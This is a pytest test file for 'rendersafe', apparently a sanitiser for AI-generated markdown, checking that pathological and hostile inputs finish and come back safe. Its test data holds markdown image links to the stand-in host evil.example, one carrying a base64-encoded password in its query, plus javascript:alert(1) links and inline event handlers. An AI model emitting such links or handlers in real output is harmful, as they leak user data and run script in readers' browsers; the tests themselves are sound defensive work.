"""Hostile and malformed input: a clear error or a safe result, never the raw text.

Timing is measured in benchmarks/pathological.py; here each input must finish
and come back safe (the test suite has no timing assertions).
"""

from __future__ import annotations

import pytest

from attacks import violations
from rendersafe import InputTooLargeError, Policy, SanitizeError, Sanitizer, sanitize
from rendersafe.findings import Construct, Reason

S = Sanitizer()
EVIL = "![x](https://evil.example/x.png)"


@pytest.mark.parametrize("value", [b"bytes", None, 42, ["list"]])
def test_non_str_input_raises_type_error(value: object) -> None:
    with pytest.raises(TypeError, match="rendersafe sanitises str"):
        sanitize(value)  # type: ignore[arg-type]


def test_oversize_input_is_refused_with_a_clear_error() -> None:
    with pytest.raises(InputTooLargeError, match="max_input_chars=500000") as info:
        sanitize("[" * 1_000_001)
    assert info.value.size == 1_000_001
    assert isinstance(info.value, SanitizeError)


def test_limit_is_configurable() -> None:
    with pytest.raises(InputTooLargeError):
        Sanitizer(Policy(max_input_chars=10)).run(EVIL)


def test_lone_surrogates_pass_through_and_are_judged() -> None:
    text = "hi \ud800 there " + "![x](https://evil.example/\udfff.png)"
    result = S.run(text)
    assert result.text.startswith("hi \ud800 there ")
    assert "evil.example" not in result.text


def test_nul_bytes() -> None:
    text = "a\0b " + EVIL
    result = S.run(text)
    assert result.text == "a\0b x \\[image removed\\]"
    assert S.run("honest\0text").text == "honest\0text"


def test_mixed_line_endings_keep_positions() -> None:
    text = "one\r\ntwo\rthree\n" + EVIL
    result = S.run(text)
    assert result.text == "one\r\ntwo\rthree\nx \\[image removed\\]"
    (finding,) = result.findings
    assert (finding.line, finding.column) == (4, 1)
    assert text[finding.start : finding.end] == EVIL


@pytest.mark.parametrize(
    "text",
    ["]((" * 30_000, "**_* " * 20_000, "`" * 100_000, "&" * 100_000],
    ids=lambda t: repr(t[:6]),
)
def test_floods_finish_unchanged(text: str) -> None:
    assert S.run(text).text == text


@pytest.mark.parametrize(
    "text",
    [
        "- >" * 20_000,
        "> - " * 15_000,
        "![a](x" + " \t" * 20_000,
        "![a](" + " " * 40_000 + "x",
    ],
    ids=lambda t: repr(t[:6]),
)
def test_regex_restarts_finish_unchanged(text: str) -> None:
    """Each of these once cost its length squared in one regex (seconds at this size)."""
    assert S.run(text).text == text


def test_a_flood_of_angles_finishes_with_the_one_at_each_forced_cut_escaped() -> None:
    """A `<` a forced cut ends on is an opener the text after the cut may complete."""
    text = "<" * 100_000
    result = S.run(text)
    assert result.text.replace("&lt;", "<") == text
    assert 0 < result.text.count("&lt;") <= len(text) // 4096


def test_a_flood_of_open_destinations_finishes_with_those_at_forced_cuts_escaped() -> None:
    """Once quadratic too. A destination a forced cut leaves open is one the text after
    the cut could complete (`](java` and `script:x)`): its `]` is escaped, and then its
    `[`, which the escape left open (the output still ends at the cut), nothing else."""
    text = "![a](x (" * 8_000
    result = S.run(text)
    assert result.text != text
    assert result.text.replace("\\]", "]").replace("\\[", "[") == text
    details = {f.detail for f in result.findings}
    assert details == {"open ']' at a forced cut", "open '[' at a forced cut"}


def test_a_destination_a_forced_cut_splits_is_not_completed_after_it() -> None:
    text = "[" + "x" * 8_189 + "](java" + "script:alert(1))"
    # Both halves of the link are escaped: the cut closes the first piece's `[`.
    assert S.run(text).text == "\\[" + "x" * 8_189 + "\\](javascript:alert(1))"


SHORT_HOLD = Sanitizer(Policy(max_hold_chars=256, rendered_fences=["mermaid"]))


@pytest.mark.parametrize(
    "text",
    [
        "x" * 252 + "```@i",  # a fence run at the cut, its language still to come
        "x" * 240 + "```mermaid\nclick A call alert(1)\n```\n",
        "~~~\n" + "x" * 240 + "![x](https://evil.example/x.png)",
        '<a href="https://ok.example/">' + "*" * 240 + " onmouseover=alert(1)>x</a>",
    ],
)
def test_a_stream_fed_a_character_at_a_time_past_a_forced_cut_equals_one_shot(
    text: str,
) -> None:
    """What a forced cut removes starts where a stream stopped sending (an opener, a
    fence's run): a stream fed one character at a time once failed ("a settled unit
    changed text already sent")."""
    stream = SHORT_HOLD.stream()
    sent = "".join(stream.feed(char) for char in text) + stream.close()
    assert sent == SHORT_HOLD.run(text).text


@pytest.mark.parametrize(
    "text",
    [
        "x" * 245 + "![a](\rhttps://e)",  # a destination after a lone CR, split by the cut
        "x" * 233 + "![a b c][r]\r\r[r]: https://evil.example/r.png\n",  # a definition
    ],
)
def test_a_lone_carriage_return_ends_a_line_at_a_forced_cut(text: str) -> None:
    """Every renderer reads a lone CR as a line end (a fixture file cannot hold one):
    the cut and what it leaves open read it so too."""
    result = SHORT_HOLD.run(text)
    assert violations(result.text, image_hosts=[], trusted_hosts=[]) == []
    assert violations(text, image_hosts=[], trusted_hosts=[]) != []
    assert SHORT_HOLD.run(result.text).text == result.text
    stream = SHORT_HOLD.stream()
    assert "".join(stream.feed(c) for c in text) + stream.close() == result.text


def test_openers_escaped_before_a_removed_image_finish() -> None:
    """Escaping thousands of openers before a range already decided once re-sorted
    the decided ranges at every opener (12 s for 16,000 characters)."""
    result = S.run(("[" * 8000 + EVIL + " ") * 2)
    assert "evil.example" not in result.text
    assert Reason.HOLD_LIMIT in {r for f in result.findings for r in f.reasons}


def test_many_definitions_finish() -> None:
    """Each unit indexed every definition carried to it again (20 s for 130,000
    characters of definitions, one per paragraph)."""
    text = "".join(f"[r{i}]: https://e.example/{i}\n\n" for i in range(3000))
    text += "![a][r1] [b][r2999]\n"
    result = S.run(text)
    assert result.text.endswith("a \\[image removed\\] [b][r2999]\n")
    assert [f.kind for f in result.findings] == [Construct.REFERENCE_IMAGE]


def test_long_open_tag_line_finishes() -> None:
    """A line-long tag with many `=` once cost the segmenter its length squared."""
    text = "<a x" + "= " * 30_000 + ">\n"
    result = S.run(text)
    assert {r for f in result.findings for r in f.reasons} == {Reason.HOLD_LIMIT}


@pytest.mark.parametrize(
    ("text", "also"),
    [
        ("[" * 30_000, set()),
        ("![[" * 10_000, set()),
        ("[](" * 30_000, set()),
        ('<a x="' * 20_000, {Reason.MALFORMED_HTML}),
    ],
    ids=lambda t: repr(t[:6]) if isinstance(t, str) else "",
)
def test_floods_past_the_hold_limit_only_escape_openers(text: str, also: set[Reason]) -> None:
    """A construct open longer than max_hold_chars is cut and its opener escaped:
    the text renders the same, and nothing after the cut can complete it.

    A flood of `<a x="` is also one tag longer than any a person writes (each `<a`
    opens a tag whose quoted values run past the guard's MAX_TAG): the second line
    fails closed and escapes each such `<`, one MALFORMED_HTML finding per opener
    it escapes, none where the hold limit already escaped one."""
    result = S.run(text)
    assert result.text.replace("\\[", "[").replace("\\]", "]").replace("&lt;", "<") == text
    assert {r for f in result.findings for r in f.reasons} == {Reason.HOLD_LIMIT, *also}
    assert len({f.start for f in result.findings}) == len(result.findings)


def test_url_flood_is_one_long_url() -> None:
    """A bare URL is read up to 4 KB: the flood's head is one long URL, the rest is
    no longer at a place where any renderer starts a link."""
    result = S.run("http://" * 30_000)
    assert result.text.startswith("\\[link removed\\]")
    assert Reason.LONG_URL in result.findings[0].reasons
    assert S.run(result.text).text == result.text


def test_ten_thousand_nested_brackets() -> None:
    text = "[" * 10_000 + EVIL + "]" * 10_000
    result = S.run(text)
    assert "evil.example" not in result.text


def test_deeply_nested_data_links_settle() -> None:
    link = "](https://evil.example/?d=VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIyIGFuZCBsaXZl)"
    result = S.run("[" * 500 + "x" + link * 500)
    assert "evil.example" not in result.text
    assert sanitize(result.text) == result.text


def test_wide_table() -> None:
    header = "|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n"
    rows = ("|" + "x|" * 999 + EVIL + "|\n") * 20
    result = S.run(header + rows)
    assert result.text.count("\\[image removed\\]") == 20
    assert "evil.example" not in result.text


def test_huge_url() -> None:
    result = S.run("![x](https://evil.example/" + "a" * 100_000 + ")")
    assert "evil.example" not in result.text  # a URL split by the hold limit goes whole
    assert Reason.HOLD_LIMIT in {r for f in result.findings for r in f.reasons}
    link = S.run("[x](https://evil.example/?q=" + "ab" * 50_000 + ")")
    assert "evil.example" not in link.text


def test_deep_blockquote() -> None:
    result = S.run(">" * 5000 + " " + EVIL)
    assert "evil.example" not in result.text


def test_internal_error_raises_sanitize_error(monkeypatch: pytest.MonkeyPatch) -> None:
    sanitizer = Sanitizer()

    def broken(*args: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr("rendersafe.units.settle.backstop", broken)
    with pytest.raises(SanitizeError, match="boom") as info:
        sanitizer.run(EVIL)
    assert isinstance(info.value.__cause__, RuntimeError)


def test_unsettled_output_is_neutralised_not_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("rendersafe.units.settle.MAX_PASSES", 1)
    reply = "Intro text. " + EVIL + " see https://docs.example/page and <b>bold</b>"
    result = Sanitizer().run(reply)
    assert result.text.startswith("Intro text. ")
    assert "<" not in result.text.replace("&lt;", "")
    assert "[" not in result.text.replace("\\[", "")
    assert "https://" not in result.text
    assert result.findings[-1].reasons == (Reason.UNSETTLED,)
    assert result.findings[-1].action == "neutralised"
    assert Sanitizer().run(result.text).text == result.text  # idempotent


@pytest.mark.parametrize(
    "reply", ["x\r```{t='}'onclick=}\r```", "}\r```{t='}'onsq=}\r```", "a\r\n```{t='}'on=}\r```"]
)
def test_a_neutralised_fence_line_after_a_lone_cr_keeps_no_handler(reply: str) -> None:
    # python-markdown ends a line at a lone CR and reads a fence's `{...}` before any
    # escape: the fallback's `}` there is `&#125;`, not `\}` (helper-61, 2026-12-08).
    result = Sanitizer().run(reply)
    assert violations(result.text) == []
    assert violations(reply) != []
    assert Sanitizer().run(result.text).text == result.text


def test_context_must_map_str_to_str() -> None:
    with pytest.raises(TypeError, match="context must map str to str"):
        S.run("x", context={"id": 1})  # type: ignore[dict-item]


@pytest.mark.parametrize(
    "tail",
    ["<img src=//evil.example/a.png>", "![a](//evil.example/a.png)", "<javascript:alert(1)>"],
)
def test_an_opener_a_forced_cut_splits_from_its_construct_stays_open(tail: str) -> None:
    """The cut falls right after the `<` or `!`: the unit after it starts with what
    would complete the construct, and is read as its continuation."""
    output = S.run("x" * 8_191 + tail).text
    assert "evil.example" not in output or "<img" not in output
    assert "![a](" not in output
    assert "<javascript:" not in output


@pytest.mark.parametrize("text", ["[\n\n]: //e[", "{on=}[", "l.x\x02e/\u200d\n://"])
def test_a_unit_that_does_not_settle_comes_back_the_same_when_run_again(text: str) -> None:
    """The answer for a unit whose re-check does not settle escapes each opener once: a
    `[` a backslash already escapes is left as it is (another backslash would escape
    the first and leave the `[` open, one more on every run)."""
    once = Sanitizer().run(text).text
    assert Sanitizer().run(once).text == once
